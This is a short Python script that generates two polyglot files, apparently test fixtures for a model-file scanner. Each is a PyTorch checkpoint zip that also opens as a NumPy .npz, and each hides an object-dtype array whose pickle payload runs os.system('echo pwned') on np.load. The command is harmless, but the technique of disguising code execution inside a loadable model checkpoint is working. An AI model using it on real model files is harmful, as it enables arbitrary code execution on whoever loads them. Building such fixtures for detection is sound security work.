# Makes malicious/torch_storage_npy_polyglot.npz: a torch.save zip whose
# data.pkl names its storage "0.npy" (torch.load reads archive/data/0.npy as
# the tensor's float bytes), and whose archive/data/0.npy is an object-dtype
# .npy holding os.system: np.load(path, allow_pickle=True)["archive/data/0"]
# runs it. The storage's size matches the tensor's, so the checkpoint loads.
# malicious/torch_storage_npy_magic.npz keeps torch's own name, data/0:
# NpzFile reads any member that begins with the NumPy magic as an array,
# whatever its name.
# Run with Debian's /usr/bin/python3.
import io
import os
import zipfile

import numpy as np
import torch


class Payload:
    def __reduce__(self):
        return (os.system, ("echo pwned",))


arr = np.empty(1, dtype=object)
arr[0] = Payload()
b = io.BytesIO()
np.save(b, arr, allow_pickle=True)
npy = b.getvalue()
npy += b"\0" * ((-len(npy)) % 64)

buf = io.BytesIO()
torch.save({"w": torch.zeros(len(npy) // 4)}, buf)
z = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
names = z.namelist()
root = names[0].split("/")[0]
pkl = z.read(root + "/data.pkl")
renamed = pkl.replace(b"X\x01\x00\x00\x000", b"X\x05\x00\x00\x000.npy")
assert renamed != pkl
with zipfile.ZipFile("malicious/torch_storage_npy_polyglot.npz", "w") as out:
    for n in names:
        if n == root + "/data.pkl":
            out.writestr(n, renamed)
        elif n == root + "/data/0":
            out.writestr(root + "/data/0.npy", npy)
        else:
            out.writestr(n, z.read(n))
with zipfile.ZipFile("malicious/torch_storage_npy_magic.npz", "w") as out:
    for n in names:
        out.writestr(n, npy if n == root + "/data/0" else z.read(n))
